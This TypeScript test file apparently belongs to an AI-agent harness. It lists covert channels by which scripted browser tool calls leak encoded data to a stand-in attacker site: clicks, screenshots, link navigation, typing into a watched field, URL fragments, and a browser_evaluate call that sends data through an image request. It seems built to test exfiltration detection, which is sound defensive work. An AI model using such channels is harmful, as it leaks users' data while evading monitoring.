import type { Call } from "@/lib/agent/loop/testing/model";
import { call, load, type Sites } from "../story";
import { type Channel, indexOfWord, inOrder, query, raw, WORDS } from "./channel";

const opened = (at: Sites): Call[][] => [
  load("browser"),
  [call("browser_navigate", { url: `${at.evil}/keys` })],
];
const selected =
  (tool: string, selector: (n: number, step: number) => string, more: object = {}) =>
  (symbols: number[], at: Sites) => [
    ...opened(at),
    ...symbols.map((n, step) => [call(tool, { selector: selector(n, step), ...more })]),
  ];

/** Uses of the page `/keys`, which reports every event by a GET of `/l/NUMBER`. */
export const browsers: Channel[] = [
  {
    ...{ name: "browser: clicks on buttons", uses: "letters", width: 4, symbols: 14 },
    send: selected("browser_click", (n) => `#b${n}`),
    decode: (seen) => inOrder(seen, /^\/l\/(\d+)$/),
  },
  {
    ...{ name: "browser: screenshots of elements", width: 4, symbols: 14 },
    // Every second step uses the other half of the elements, because only a change of the view is reported.
    send: selected("browser_screenshot", (n, step) => `#far${n + 16 * (step % 2)}`),
    decode: (seen) => inOrder(seen, /^\/far\/(\d+)/).map((n) => n % 16),
  },
  {
    ...{ name: "browser: opens named links", uses: "letters", width: 4, symbols: 14 },
    send: (symbols, at) => [
      ...opened(at),
      ...symbols.map((n) => [call("browser_navigate", { url: `${at.evil}/l/${n}` })]),
    ],
    decode: (seen) => inOrder(seen, /^\/l\/(\d+)$/),
  },
  {
    ...{ name: "browser: known words in a watched field", width: 8, symbols: 24 },
    send: (symbols, at) => [
      ...opened(at),
      ...[0, 8, 16].map((from) => [
        call("browser_type", {
          selector: "#watched",
          text: symbols
            .slice(from, from + 8)
            .map((n) => WORDS[n])
            .join(" "),
          clear_first: true,
        }),
      ]),
    ],
    decode: (seen) => {
      const full = seen
        .flatMap(({ path }) => path.split("/typed?")[1] ?? [])
        .map((text) => decodeURIComponent(text).trim().split(" "))
        .filter((words) => words.length === 8 && words.every((word) => WORDS.includes(word)));
      return [...new Map(full.map((words) => [words.join(), words])).values()].flat().map(indexOfWord);
    },
  },
  {
    ...raw(
      "browser: the fragment of a named address",
      (d, at) => [...opened(at), [call("browser_navigate", { url: `${at.evil}/keys#${d}` })]],
      ({ path }) => path.split("/hash?")[1],
    ),
  },
  {
    ...raw(
      "browser: text in a watched field",
      (d, at) => [...opened(at), [call("browser_type", { selector: "#watched", text: d })]],
      ({ path }) => path.split("/typed?")[1],
    ),
  },
  {
    ...raw(
      "browser: code in the page",
      (d, at) => [...opened(at), [call("browser_evaluate", { code: `new Image().src = "/api?d=${d}"` })]],
      query,
    ),
  },
];
